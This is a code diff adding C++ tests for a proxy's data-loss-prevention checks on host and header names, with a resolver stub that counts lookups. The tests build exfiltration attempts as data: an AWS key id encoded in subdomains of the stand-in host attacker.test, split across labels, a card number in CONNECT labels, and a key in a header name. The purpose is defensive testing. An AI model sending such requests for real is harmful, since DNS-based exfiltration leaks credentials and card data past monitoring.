@@ -168,6 +168,8 @@ class FakeResolver : public Resolver {
   }
   asio::awaitable<absl::StatusOr<Resolution>> Resolve(std::string host, uint16_t port) override {
     std::lock_guard<std::mutex> lock(mu_);
+    ++lookups_;
+    asked_.push_back(host);
     auto it = map_.find(host);
     if (it == map_.end()) co_return absl::NotFoundError("cannot resolve '" + host + "'");
     Resolution r;
@@ -176,9 +178,21 @@ class FakeResolver : public Resolver {
     co_return r;
   }
 
+  // How many lookups reached the resolver, and for which names.
+  int lookups() {
+    std::lock_guard<std::mutex> lock(mu_);
+    return lookups_;
+  }
+  std::vector<std::string> asked() {
+    std::lock_guard<std::mutex> lock(mu_);
+    return asked_;
+  }
+
  private:
   std::mutex mu_;
   std::map<std::string, std::pair<tcp::endpoint, bool>> map_;
+  int lookups_ = 0;
+  std::vector<std::string> asked_;
 };
 
 // ---- audit capture
@@ -1242,6 +1256,132 @@ TEST_F(InspectedProxyTest, ExcludedHostIsTunnelledOpaque) {
   ASSERT_EQ(events.size(), 1u);
   EXPECT_EQ(events[0].decision, "opaque");
   EXPECT_EQ(events[0].scheme, "tunnel");
+}
+
+}  // namespace
+}  // namespace esb::governance::proxy
+
+// ---- DLP on names: host names and header names (issue 12)
+
+namespace esb::governance::proxy {
+namespace {
+
+constexpr char kAwsKeyLower[] = "akiaq2we3rt4yu5i6paz";  // kAwsKeyId as a DNS name has it
+
+// The row as JSON, upper-cased: no form of the key may be in it.
+std::string UpperRow(const AuditEvent& e) {
+  std::string row = boost::json::serialize(ToJson(e));
+  for (char& c : row) c = static_cast<char>(toupper(static_cast<unsigned char>(c)));
+  return row;
+}
+
+// Attack: exfiltrate an AWS key id through the DNS name of an absolute-URI request in mode
+// open (the attacker runs attacker.test's DNS zone). Refused before the name is resolved.
+TEST_F(ProxyTest, SecretInASubdomainIsBlockedBeforeResolution) {
+  Upstream up;
+  Attach(R"({"mode":"open"})");
+  const std::string host = std::string(kAwsKeyLower) + ".attacker.test";
+  resolver_->Map(host, up.port());
+  Client c(port_);
+  auto res = c.Get("http://" + host + "/");
+  EXPECT_EQ(res.result_int(), 403);
+  EXPECT_EQ(std::string(res["X-Esb-Blocked"]), "dlp:aws_access_key");
+  EXPECT_EQ(resolver_->lookups(), 0);
+  EXPECT_EQ(up.connections(), 0);
+  auto events = audit_.WaitFor(1);
+  ASSERT_EQ(events.size(), 1u);
+  EXPECT_EQ(events[0].decision, "blocked");
+  EXPECT_EQ(events[0].host, "[REDACTED:dlp:aws_access_key]");
+  ASSERT_FALSE(events[0].findings.empty());
+  EXPECT_EQ(events[0].findings[0].where, "host");
+  EXPECT_EQ(UpperRow(events[0]).find(kAwsKeyId), std::string::npos) << UpperRow(events[0]);
+}
+
+// Attack: the same key split over labels and dashes, under a "*.suffix" the policy allows.
+TEST_F(ProxyTest, SecretSplitOverLabelsUnderAnAllowedSuffixIsBlockedBeforeResolution) {
+  Upstream up;
+  Attach(R"({"mode":"allowlist","allow":["*.attacker.test"]})");
+  const std::string host = "akiaq2we-3rt4yu.5i6paz.x1.attacker.test";
+  resolver_->Map(host, up.port());
+  Client c(port_);
+  auto res = c.Get("http://" + host + ":8080/x");
+  EXPECT_EQ(res.result_int(), 403);
+  EXPECT_EQ(std::string(res["X-Esb-Blocked"]), "dlp:aws_access_key");
+  EXPECT_EQ(resolver_->lookups(), 0);
+  EXPECT_EQ(up.connections(), 0);
+}
+
+// Attack: a card number split into labels of a CONNECT target. Refused before resolution; the
+// audit row has neither the digits nor the name.
+TEST_F(ProxyTest, CardSplitIntoLabelsOfAConnectTargetIsBlockedBeforeResolution) {
+  Upstream up;
+  Attach(R"({"mode":"open"})");
+  const std::string host = "4111.1111.1111.1111.attacker.test";
+  resolver_->Map(host, up.port());
+  Client c(port_);
+  c.WriteRaw("CONNECT " + host + ":443 HTTP/1.1\r\nHost: " + host + ":443\r\n\r\n");
+  auto res = c.ReadConnect();
+  EXPECT_EQ(res.result_int(), 403);
+  EXPECT_EQ(std::string(res["X-Esb-Blocked"]), "dlp:credit_card");
+  EXPECT_EQ(resolver_->lookups(), 0);
+  EXPECT_EQ(up.connections(), 0);
+  auto events = audit_.WaitFor(1);
+  ASSERT_EQ(events.size(), 1u);
+  const std::string row = boost::json::serialize(ToJson(events[0]));
+  EXPECT_EQ(row.find("4111"), std::string::npos) << row;
+}
+
+// Attack: a key in a header NAME (values were scanned, names were not).
+TEST_F(ProxyTest, SecretInAHeaderNameIsBlockedAndNothingReachesUpstream) {
+  Upstream up;
+  resolver_->Map("weather.test", up.port());
+  Attach(R"({"mode":"open"})");
+  Client c(port_);
+  http::request<http::string_body> req{http::verb::get, "http://weather.test/", 11};
+  req.set(http::field::host, "weather.test");
+  req.set(std::string("X-") + kAwsKeyId, "1");
+  auto res = c.Send(std::move(req));
+  EXPECT_EQ(res.result_int(), 403);
+  EXPECT_EQ(std::string(res["X-Esb-Blocked"]), "dlp:aws_access_key");
+  EXPECT_EQ(up.connections(), 0);
+  EXPECT_EQ(up.raw().find(kAwsKeyId), std::string::npos);
+  auto events = audit_.WaitFor(1);
+  ASSERT_EQ(events.size(), 1u);
+  EXPECT_EQ(UpperRow(events[0]).find(kAwsKeyId), std::string::npos) << UpperRow(events[0]);
+  EXPECT_NE(events[0].request_headers.find("[REDACTED:dlp:aws_access_key]"), std::string::npos);
+}
+
+// False positives: ordinary names (digits, dashes, punycode, long labels), ports and IP
+// literals pass the name scan and are forwarded with no finding.
+TEST_F(ProxyTest, OrdinaryHostNamesAndIpLiteralsPassTheNameScan) {
+  Upstream up;
+  const std::vector<std::string> hosts = {
+      "ec2-54-210-167-204.compute-1.amazonaws.test",
+      "r3---sn-4g5e6nz7.googlevideo.test",
+      "xn--bcher-kva.example.test",
+      "ip-10-0-0-1.ec2.internal.test",
+      "d1a2b3c4d5e6f7.cloudfront.test",
+      "files.pythonhosted.test",
+      "cdn-123456789.example.test",
+      "s3.us-east-1.amazonaws.test",
+  };
+  for (const std::string& h : hosts) resolver_->Map(h, up.port());
+  Attach(R"({"mode":"open"})");
+  Client c(port_);
+  for (const std::string& h : hosts) {
+    auto res = c.Get("http://" + h + ":8080/");
+    EXPECT_EQ(res.result_int(), 200) << h;
+  }
+  // An IP literal (allowed explicitly: it is loopback) is not scanned as a name.
+  Update(R"({"allow":["127.0.0.1"]})");
+  Client c2(port_);
+  EXPECT_EQ(c2.Get("http://127.0.0.1:" + std::to_string(up.port()) + "/").result_int(), 200);
+  auto events = audit_.WaitFor(hosts.size() + 1);
+  ASSERT_EQ(events.size(), hosts.size() + 1);
+  for (const AuditEvent& e : events) {
+    EXPECT_TRUE(e.findings.empty()) << e.host << ": " << e.findings[0].rule_id;
+    EXPECT_EQ(e.decision, "allowed") << e.host;
+  }
 }
 
 }  // namespace
